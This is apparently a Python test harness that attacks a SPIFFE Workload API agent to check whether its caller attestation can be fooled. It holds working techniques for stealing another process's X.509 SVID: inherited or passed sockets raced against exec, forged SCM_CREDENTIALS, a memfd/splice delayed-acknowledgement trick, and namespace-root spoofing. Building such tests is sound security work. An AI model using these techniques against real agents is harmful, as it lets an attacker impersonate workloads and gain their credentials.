"""Callers of the Workload API, honest and not, each in its own process. Every one makes one FetchX509SVID, byte by byte.

Usage: caller.py SOCKET PROGRAM WAY TIMES     prints how many of them were given an SVID
       caller.py SOCKET - demoted COUNT UID  calls as root, becomes the user, and calls again on the same connection;
                                             prints after each call, and after each update of the first, whether it
                                             was given an SVID, COUNT times in all
       caller.py SOCKET PROGRAM connect COUNT UID...     connects COUNT times as each user, says how many of each are
                                                         open, and holds them until its input ends
"""

import os
import random
import select
import socket
import struct
import subprocess
import sys
import time

SCM_CREDENTIALS = 2
# No answer takes longer: the agent waits 5 s for an acknowledgement.
PATIENCE = 30


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def call():
    """The whole of a client's side."""
    block = b""
    for name, value in [
        (":method", "POST"),
        (":scheme", "http"),
        (":path", "/SpiffeWorkloadAPI/FetchX509SVID"),
        (":authority", "localhost"),
        ("content-type", "application/grpc"),
        ("te", "trailers"),
        ("workload.spiffe.io", "true"),
    ]:
        block += b"\x00" + bytes([len(name)]) + name.encode() + bytes([len(value)]) + value.encode()
    return (
        b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
        + frame(4, 0, 0)
        + frame(4, 1, 0)
        + frame(1, 4, 1, block)
        + frame(0, 1, 1, bytes(5))
    )


def stolen(connection, acknowledge):
    """Reads until the call is answered; whether an SVID came. `acknowledge` sends what answers a PING."""
    deadline, arrived = time.monotonic() + PATIENCE, b""
    while True:
        while len(arrived) >= 9 and len(arrived) >= 9 + int.from_bytes(arrived[:3], "big"):
            length, kind, flags = int.from_bytes(arrived[:3], "big"), arrived[3], arrived[4]
            payload, arrived = arrived[9 : 9 + length], arrived[9 + length :]
            if kind == 0 and b"spiffe://" in payload:
                return True
            if kind == 6 and not flags & 1 and acknowledge:
                acknowledge(frame(6, 1, 0, payload))
            # The end of the stream, in trailers, or of everything.
            if (kind == 1 and flags & 1) or kind in (3, 7):
                return False
        left = deadline - time.monotonic()
        if left <= 0 or not select.select([connection], [], [], left)[0]:
            raise SystemExit("no answer at all")
        try:
            more = connection.recv(65536)
        except ConnectionResetError:
            return False
        if not more:
            return False
        arrived += more


def connect(path):
    connection = socket.socket(socket.AF_UNIX)
    connection.connect(path)
    return connection


def run(program):
    os.execv(program, [program, "60"])


def wait_for(program, pid):
    """Until the process runs the program, as seen from here."""
    while os.readlink(f"/proc/{pid}/exe") != program:
        time.sleep(0.001)


def honest(path, _):
    connection = connect(path)
    connection.sendall(call())
    return stolen(connection, connection.sendall)


def theft(speak, linger=False, forge=False):
    """Connects, leaves the connection to a child, and runs the program."""

    def steal(path, program):
        reading, writing = os.pipe()
        opener = os.fork()
        if opener == 0:
            connection = connect(path)
            connection.set_inheritable(True)
            # Before the connection is accepted, while it is, and after.
            pause = random.choice([0, 0, 0, 0.001, 0.005, 0.05])
            me = os.getpid()
            if os.fork() == 0:
                if speak == "at once":
                    time.sleep(pause)
                else:
                    wait_for(program, me)
                send = connection.sendall
                if forge:
                    claimed = [(socket.SOL_SOCKET, SCM_CREDENTIALS, struct.pack("3i", me, os.getuid(), os.getgid()))]
                    send = lambda data: connection.sendmsg([data], claimed)
                won = False
                try:
                    if speak != "prepared":
                        send(call())
                    won = stolen(connection, None if speak == "prepared" and not linger else send)
                except (BrokenPipeError, ConnectionResetError):
                    pass
                os.write(writing, b"\x01" if won else b"\x00")
                os._exit(0)
            if speak == "prepared":
                connection.sendall(call())
            time.sleep(pause)
            run(program)
        os.close(writing)
        won = os.read(reading, 1)
        os.kill(opener, 9)
        os.waitpid(opener, 0)
        return won == b"\x01"

    return steal


def filled_in_later(path, program):
    """Writes its acknowledgement without a copy before the program runs: the kernel notes the writer, and the octets are
    those of a page that another process fills in once it has seen the PING. So that the connection is accepted only then,
    others stand before it in the queue; so that the agent does not read on meanwhile, it is kept busy with answers that
    nobody takes."""
    page = os.memfd_create("page")
    os.pwrite(page, frame(6, 1, 0, bytes(8)), 0)
    connection = socket.socket(socket.AF_UNIX)
    connection.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 212992)
    connection.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
    queue = [socket.socket(socket.AF_UNIX) for _ in range(100)]
    reading, writing = os.pipe()
    opener = os.fork()
    if opener == 0:
        inlet, outlet = os.pipe()
        os.splice(page, outlet, 17, 0)
        connection.setblocking(False)
        for other in queue:
            other.connect(path)
        connection.connect(path)
        words, said = call() + frame(6, 0, 0, b"\xff" * 8) * (360 * 1024 // 17), 0
        try:
            while said < len(words):
                said += connection.send(words[said : said + 32600])
        except BlockingIOError:
            pass
        else:
            connection.setblocking(True)
            os.splice(inlet, connection.fileno(), 17)
        os.write(writing, b"x")
        run(program)
    os.read(reading, 1)
    time.sleep(random.choice([0.2, 0.5, 1]))
    for other in queue:
        other.close()
    try:
        won = stolen(connection, lambda answer: os.pwrite(page, answer, 0))
    except SystemExit:
        won = False
    os.kill(opener, 9)
    os.waitpid(opener, 0)
    return won


def passed(path, program):
    """Connects, sends the connection to another process, and runs the program."""
    mine, theirs = socket.socketpair(socket.AF_UNIX)
    opener = os.fork()
    if opener == 0:
        connection = connect(path)
        socket.send_fds(mine, [b"x"], [connection.fileno()])
        run(program)
    _, [descriptor], _, _ = socket.recv_fds(theirs, 1, 1)
    connection = socket.socket(fileno=descriptor)
    time.sleep(random.choice([0, 0.001, 0.01]))
    try:
        connection.sendall(call())
        won = stolen(connection, connection.sendall)
    except BrokenPipeError:
        won = False
    os.kill(opener, 9)
    os.waitpid(opener, 0)
    return won


WAYS = {
    "honest": honest,
    "child-speaks": theft("afterwards"),
    "child-speaks-at-once": theft("at once"),
    "prepared": theft("prepared"),
    "prepared-and-child-answers": theft("prepared", linger=True),
    "in-the-name-of-the-opener": theft("afterwards", forge=True),
    "passed": passed,
    "filled-in-later": filled_in_later,
}


def all_at_once(path, program, way, times):
    children = []
    for _ in range(times):
        child = os.fork()
        if child == 0:
            os._exit(0 if WAYS[way](path, program) else 3)
        children.append(child)
    codes = [os.waitstatus_to_exitcode(os.waitpid(child, 0)[1]) for child in children]
    if not set(codes) <= {0, 3}:
        raise SystemExit(f"not every try came to its end: {codes}")
    print(codes.count(0), flush=True)


def hold(path, count, uids):
    """Connects as each user; a connection that is refused is closed at once by the other side."""
    for uid in uids:
        reading, writing = os.pipe()
        if os.fork() == 0:
            os.setgroups([])
            os.setresgid(uid, uid, uid)
            os.setresuid(uid, uid, uid)
            connections = [connect(path) for _ in range(count)]
            time.sleep(1)
            open_ones = 0
            for connection in connections:
                closed = select.select([connection], [], [], 0)[0] and not connection.recv(1, socket.MSG_PEEK)
                open_ones += not closed
            os.write(writing, str(open_ones).encode())
            os.close(writing)
            sys.stdin.read()
            os._exit(0)
        os.close(writing)
        print(os.read(reading, 16).decode(), flush=True)
    sys.stdin.read()


def demoted(path, count, uid):
    connection = connect(path)
    for said in range(count):
        if said == 0:
            connection.sendall(call())
        if said == 1:
            os.setgroups([])
            os.setresgid(uid, uid, uid)
            os.setresuid(uid, uid, uid)
            # The headers of the call again, as its second stream.
            second = call()[len(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n") + 18 :]
            connection.sendall(second.replace(b"\x00\x00\x00\x01", b"\x00\x00\x00\x03"))
        print(int(stolen(connection, connection.sendall)), flush=True)


if __name__ == "__main__":
    path, program, way, count, *rest = sys.argv[1:]
    if way == "connect":
        hold(path, int(count), [int(uid) for uid in rest])
    elif way == "demoted":
        demoted(path, int(count), int(rest[0]))
    elif way == "root-of-a-namespace":
        # Whoever is root in a namespace of processes may write in the name of every process there.
        inner = [sys.executable, __file__, path, program, "in-the-name-of-the-opener", count]
        unshare = ["unshare", "--user", "--map-root-user", "--pid", "--fork", "--mount-proc"]
        sys.exit(subprocess.run(unshare + inner).returncode)
    else:
        all_at_once(path, program, way, int(count))
